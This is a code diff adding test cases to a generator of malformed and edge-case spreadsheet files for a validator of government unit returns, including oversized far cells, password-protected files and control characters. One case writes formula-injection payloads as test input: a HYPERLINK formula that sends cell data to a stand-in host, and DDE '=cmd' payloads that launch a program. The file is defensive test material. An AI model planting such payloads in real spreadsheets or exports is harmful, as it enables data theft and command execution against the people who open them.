@@ -810,9 +810,338 @@ def _xls_note(work, dst):
     return expect()
 
 
+# --- a real inbox: what Excel, LibreOffice and units' own hands leave in a return ---------
+
+def _devmode() -> bytes:
+    """An Excel printer-settings part (a Windows DEVMODE): the device name in UTF-16LE,
+    then binary fields; its second byte is a NUL, without a byte-order mark."""
+    name = "Microsoft Print to PDF".encode("utf-16-le").ljust(64, b"\x00")
+    fields = struct.pack("<HHHHIhhhhhhhhhh", 0x0401, 0x0401, 220, 0, 0x0001_030F, 1, 9, 0, 0, 100, 1, 7, 600, 1, 1)
+    return (name + fields).ljust(1252, b"\x00")
+
+
+@case("47-printer-settings.xlsx")
+def _printer_settings(work, dst):
+    """The input sheet printed once in Excel: xl/printerSettings/printerSettings1.bin
+    (binary, starts "M\\0i\\0") tied to the sheet's page setup → accepted."""
+    src, part = filled(work), "xl/worksheets/sheet2.xml"
+    with zipfile.ZipFile(src) as z:
+        xml, types = z.read(part), z.read("[Content_Types].xml")
+    rel_ns = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    if rel_ns not in xml:
+        xml = xml.replace(b"<worksheet ", b"<worksheet " + rel_ns + b" ", 1)
+    xml, n = re.subn(rb"<pageSetup ", b'<pageSetup r:id="rId1" ', xml, count=1)
+    assert n == 1
+    types = types.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
+                                        b'officedocument.spreadsheetml.printerSettings"/><Default ', 1)
+    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'printerSettings" Target="../printerSettings/printerSettings1.bin"/></Relationships>')
+    replace_parts(src, dst, {part: xml, "[Content_Types].xml": types},
+                  [("xl/worksheets/_rels/sheet2.xml.rels", rels), ("xl/printerSettings/printerSettings1.bin", _devmode())])
+    return expect()
+
+
+def _emf() -> bytes:
+    """A minimal EMF picture: header record (type 1, " EMF" signature), then EOF."""
+    header = struct.pack("<II4i4i4sIIIHHIII2i2i", 1, 88, 0, 0, 99, 49, 0, 0, 2646, 1323, b" EMF", 0x10000, 108, 2,
+                         0, 0, 0, 0, 0, 1920, 1080, 508, 285)
+    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)
+
+
+@case("48-emf-picture.xlsx")
+def _emf_picture(work, dst):
+    """A logo pasted as an EMF picture (xl/media/image1.emf, binary, starts 01 00 00 00) → accepted."""
+    src = filled(work)
+    with zipfile.ZipFile(src) as z:
+        types = z.read("[Content_Types].xml")
+    types = types.replace(b"<Default ", b'<Default Extension="emf" ContentType="image/x-emf"/><Default ', 1)
+    replace_parts(src, dst, {"[Content_Types].xml": types}, [("xl/media/image1.emf", _emf())])
+    return expect()
+
+
+def far_cell_xml(xml: bytes, ref: str = "XFD1048576") -> bytes:
+    """A sheet's XML with one more cell, holding "x", at `ref` (its own last row)."""
+    row = re.sub(r"[A-Z]", "", ref)
+    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
+    return xml.replace(b"</sheetData>", cell + b"</sheetData>")
+
+
+@case("49-far-cell.xlsx")
+def _far_cell(work, dst):
+    """One "x" typed at XFD1048576 of the input sheet (a 21 KB file): calamine would build
+    a dense grid of 512 GiB; the reader names the cell instead."""
+    src, part = filled(work), "xl/worksheets/sheet2.xml"
+    with zipfile.ZipFile(src) as z:
+        xml = z.read(part)
+    replace_parts(src, dst, {part: far_cell_xml(xml)})
+    return expect("sheet-too-large", sheet=INPUT_SHEET, cell="XFD1048576")
+
+
+@case("50-far-cell-guide.ods")
+def _far_cell_ods(work, dst):
+    """Saved by LibreOffice as .ods with an "x" at XFD1048576 of the guide sheet: calamine
+    reads every table of an .ods when it opens it, so this one is refused too."""
+    src, part = filled(work), "xl/worksheets/sheet1.xml"
+    with zipfile.ZipFile(src) as z:
+        xml = z.read(part)
+    staged = work / "far-guide.xlsx"
+    replace_parts(src, staged, {part: far_cell_xml(xml)})
+    keep_or_convert(work, staged, "ods", dst)
+    return expect("sheet-too-large", sheet="Hướng dẫn", cell="XFD1048576")
+
+
+def _set_cell(field_id: str, value, column: int = 5):
+    def change(book):
+        sheet = book[INPUT_SHEET]
+        sheet.cell(input_row_of(sheet, field_id), column).value = value
+    return change
+
+
+@case("51-true-in-number.xlsx")
+def _true_in_number(work, dst):
+    """TRUE (a boolean cell, as Excel stores it) in 1.2.b, a count: not 1, not a number."""
+    edit(filled(work), dst, _set_cell("1.2.b", True))
+    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(dst, "1.2.b"), field="1.2.b")
+
+
+@case("52-true-in-yes-no.xlsx")
+def _true_in_yes_no(work, dst):
+    """TRUE in 2.1, a yes/no field: read as yes → accepted."""
+    edit(filled(work), dst, _set_cell("2.1", True))
+    return expect()
+
+
+def _unit_formulas(work) -> Path:
+    """The filled workbook with 1.2.a = "=7/0" and 1.3.a = "=NA()" typed by the unit, and
+    1.2.b = TRUE, for LibreOffice to compute and save."""
+    src = work / "unit-formulas.xlsx"
+    if not src.exists():
+        def change(book):
+            for field_id, value in (("1.2.a", "=7/0"), ("1.3.a", "=NA()"), ("1.2.b", True)):
+                _set_cell(field_id, value)(book)
+        edit(filled(work), src, change)
+    return src
+
+
+@case("53-error-value.ods")
+def _error_ods(work, dst):
+    """LibreOffice .ods with #DIV/0! in 1.2.a (and #N/A in 1.3.a, TRUE in 1.2.b): errors
+    are not blanks, TRUE is not 1."""
+    libreoffice_copy(work, _unit_formulas(work), "ods", dst)
+    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(filled(work), "1.2.a"), field="1.2.a")
+
+
+@case("54-error-value.xls")
+def _error_xls(work, dst):
+    """The same saved by LibreOffice as Excel 97-2003 .xls."""
+    libreoffice_copy(work, _unit_formulas(work), "xls", dst)
+    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(filled(work), "1.2.a"), field="1.2.a")
+
+
+@case("55-password-protected.ods")
+def _password_ods(work, dst):
+    """Saved by LibreOffice with a password (dti2023) as .ods."""
+    password_copy(work, filled(work), "calc8", dst)
+    return expect("password-protected")
+
+
+@case("56-password-protected.xls")
+def _password_xls(work, dst):
+    """Saved by LibreOffice with a password (dti2023) as .xls (a FILEPASS record)."""
+    password_copy(work, filled(work), "MS Excel 97", dst)
+    return expect("password-protected")
+
+
+@case("57-libreoffice.xlsx")
+def _libreoffice_xlsx(work, dst):
+    """The filled workbook saved by LibreOffice Calc as .xlsx → accepted."""
+    libreoffice_copy(work, filled(work), "xlsx", dst)
+    return expect()
+
+
+@case("58-implausible-number.xlsx")
+def _implausible(work, dst):
+    """6.4.a (a count in a Min-Max-free ratio) holds 1e308: far above any count of one unit."""
+    edit(filled(work), dst, _set_cell("6.4.a", 1e308))
+    return expect("implausible-number", sheet=INPUT_SHEET, cell=field_cell(dst, "6.4.a"), field="6.4.a")
+
+
+@case("59-na-beside-a-figure.xlsx")
+def _na_mixed(work, dst):
+    """1.4: "Chưa có chuyên mục" in the first field and N/A typed in the posts count: not
+    applicable and reported at once (full points before; the decision says 0)."""
+    def change(book):
+        _set_cell("1.4.a", "Chưa có chuyên mục")(book)
+        _set_cell("1.4.b", "N/A")(book)
+    edit(filled(work), dst, change)
+    return expect("mixed-not-applicable", sheet=INPUT_SHEET, cell=field_cell(dst, "1.4.b"), field="1.4.b")
+
+
+@case("60-na-in-every-field.xlsx")
+def _na_all(work, dst):
+    """N/A typed in both fields of 1.2: the item is not applicable → accepted."""
+    def change(book):
+        _set_cell("1.2.a", "N/A")(book)
+        _set_cell("1.2.b", "không áp dụng")(book)
+    edit(filled(work), dst, change)
+    return expect()
+
+
+@case("61-field-row-deleted.xlsx")
+def _row_deleted(work, dst):
+    """The row of 3.2.b deleted by the unit: not a blank, an error."""
+    def change(book):
+        sheet = book[INPUT_SHEET]
+        sheet.delete_rows(input_row_of(sheet, "3.2.b"))
+    edit(filled(work), dst, change)
+    return expect("missing-field", sheet=INPUT_SHEET, field="3.2.b")
+
+
+@case("62-letterhead.xlsx")
+def _letterhead(work, dst):
+    """A 40-row letterhead pasted above the title block: the header is found below it → accepted."""
+    def change(book):
+        sheet = book[INPUT_SHEET]
+        sheet.insert_rows(1, 40)
+        sheet.cell(1, 1).value = "ỦY BAN NHÂN DÂN THÀNH PHỐ HỒ CHÍ MINH"
+        sheet.cell(2, 1).value = "SỞ THÔNG TIN VÀ TRUYỀN THÔNG"
+    edit(filled(work), dst, change)
+    return expect()
+
+
+@case("63-stamp-of-another-unit.xlsx")
+def _stamp_copied(work, dst):
+    """so-tttt's workbook with the stamp sheet of so-gtvt (a copied _meta): the visible
+    title still says so-tttt."""
+    edit(filled(work), dst, _meta_edit("unit_code", "so-gtvt"))
+    return expect("unit-title-mismatch", sheet=INPUT_SHEET)
+
+
+@case("64-saved-in-2099.xlsx")
+def _future_stamp(work, dst):
+    """A save stamp in 2099: a warning, and it does not win by itself."""
+    src = work / "future-source.xlsx"
+    shutil.copy(filled(work), src)
+    normalize(src)
+    with zipfile.ZipFile(src) as z:
+        core = z.read("docProps/core.xml")
+    core = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2099-01-01T00:00:00Z", core)
+    replace_parts(src, dst, {"docProps/core.xml": core})
+    return expect("suspicious-save-time")
+
+
+@case("65-flat-ods.fods")
+def _fods(work, dst):
+    """The return saved by LibreOffice as a flat XML spreadsheet (.fods)."""
+    keep_or_convert(work, filled(work), "fods", dst)
+    return expect("unsupported-format")
+
+
+def _xml_text(text: str) -> bytes:
+    """Cell text as OOXML stores it: XML-escaped, control characters as _xHHHH_ (Excel's way)."""
+    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+    escaped = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group(0)):04X}_", escaped)
+    return escaped.encode("utf-8")
+
+
+def text_cells(src: Path, dst: Path, texts: dict[str, str]) -> None:
+    """`src` with cells (A1 refs of the input sheet) holding these texts as typed: written
+    into the XML, since openpyxl makes "=..." a formula and refuses control characters."""
+    part = "xl/worksheets/sheet2.xml"
+    with zipfile.ZipFile(src) as z:
+        xml = z.read(part)
+    for ref, text in texts.items():
+        body = b' t="inlineStr"><is><t xml:space="preserve">' + _xml_text(text) + b"</t></is></c>"
+        xml, n = re.subn(rb'<c r="' + ref.encode() + rb'"( s="\d+")?[^>]*?(/>|>.*?</c>)',
+                         lambda m: b'<c r="' + ref.encode() + b'"' + (m.group(1) or b"") + body, xml, count=1)
+        assert n == 1, ref
+    replace_parts(src, dst, {part: xml})
+
+
+@case("66-formula-text.xlsx")
+def _formula_text(work, dst):
+    """Text a spreadsheet runs when a CSV cell starts with it: =HYPERLINK in 1.2.a, a tab
+    then =cmd in 1.2.b, -2+3 in 1.3.a, @SUM in 1.2.a's note."""
+    src = filled(work)
+    cells = {field_id: field_cell(src, field_id) for field_id in ("1.2.a", "1.2.b", "1.3.a")}
+    text_cells(src, dst, {
+        cells["1.2.a"]: '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
+        cells["1.2.b"]: "\t=cmd|' /C calc'!A0",
+        cells["1.3.a"]: "-2+3",
+        "F" + cells["1.2.a"][1:]: "@SUM(1+1)*cmd|' /C calc'!A0",
+    })
+    return expect("not-a-number", sheet=INPUT_SHEET, cell=cells["1.2.a"], field="1.2.a")
+
+
+@case("67-control-characters.xlsx")
+def _control_chars(work, dst):
+    """A form feed in 1.2.b ("1\\f2") and a bell and a vertical tab in its note."""
+    src = filled(work)
+    cell = field_cell(src, "1.2.b")
+    text_cells(src, dst, {cell: "1\x0c2", "F" + cell[1:]: "Xem\x07 văn bản\x0b số 12"})
+    return expect("not-a-number", sheet=INPUT_SHEET, cell=cell, field="1.2.b")
+
+
+def keep_or_convert(work: Path, src: Path, fmt: str, dst: Path) -> None:
+    """`src` saved by LibreOffice as `fmt`, unless the corpus already has this file: the
+    file is compared by what the reader says of it, not by its bytes (LibreOffice
+    orders parts differently from run to run)."""
+    existing = OUT / dst.name
+    if existing.exists():
+        shutil.copy(existing, dst)
+        return
+    staged = work / "lo" / dst.with_suffix(".xlsx").name
+    staged.parent.mkdir(exist_ok=True)
+    shutil.copy(src, staged)
+    shutil.copy(soffice_convert(staged, fmt, staged.parent), dst)
+
+
+PASSWORD_MACRO = """<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
+<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
+Sub SaveWithPassword
+  Dim load(0) As New com.sun.star.beans.PropertyValue
+  load(0).Name = "Hidden" : load(0).Value = True
+  doc = StarDesktop.loadComponentFromURL(ConvertToURL(Environ("CORPUS_SRC")), "_blank", 0, load())
+  Dim store(1) As New com.sun.star.beans.PropertyValue
+  store(0).Name = "FilterName" : store(0).Value = Environ("CORPUS_FILTER")
+  store(1).Name = "Password" : store(1).Value = Environ("CORPUS_PASSWORD")
+  doc.storeToURL(ConvertToURL(Environ("CORPUS_DST")), store())
+  doc.close(True)
+End Sub
+</script:module>
+"""
+
+
+def password_copy(work: Path, src: Path, filter_name: str, dst: Path) -> None:
+    """`src` saved by LibreOffice with the password "dti2023" (a Basic macro run headless);
+    encryption is random, so a file already in the corpus is kept."""
+    existing = OUT / dst.name
+    if existing.exists():
+        shutil.copy(existing, dst)
+        return
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        raise SystemExit("LibreOffice (soffice) is needed for the password-protected .ods and .xls")
+    profile = work / "lo-macro-profile"
+    run = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
+    if not (profile / "user" / "basic" / "Standard").exists():
+        subprocess.run(run + ["--terminate_after_init"], check=True, capture_output=True, timeout=300)
+    (profile / "user" / "basic" / "Standard" / "Module1.xba").write_text(PASSWORD_MACRO, encoding="utf-8")
+    env = {**os.environ, "CORPUS_SRC": str(src), "CORPUS_DST": str(dst), "CORPUS_FILTER": filter_name,
+           "CORPUS_PASSWORD": "dti2023"}
+    subprocess.run(run + ["vnd.sun.star.script:Standard.Module1.SaveWithPassword?language=Basic&location=application"],
+                   check=True, capture_output=True, timeout=300, env=env)
+    if not dst.exists():
+        raise SystemExit(f"LibreOffice did not write {dst.name}")
+
+
 # Cases whose zip is written with fixed dates already, and must not be rewritten
 # (normalizing would inflate the bombs, or fail on the lying sizes).
-SELF_NORMALIZED = {"07-zip-bomb-size.xlsx", "08-zip-bomb-ratio.xlsx", "45-zip-sizes-lie.xlsx"}
+SELF_NORMALIZED = {"07-zip-bomb-size.xlsx", "08-zip-bomb-ratio.xlsx", "45-zip-sizes-lie.xlsx",
+                   "50-far-cell-guide.ods", "55-password-protected.ods", "64-saved-in-2099.xlsx"}
 
 
 # --- main -------------------------------------------------------------------------
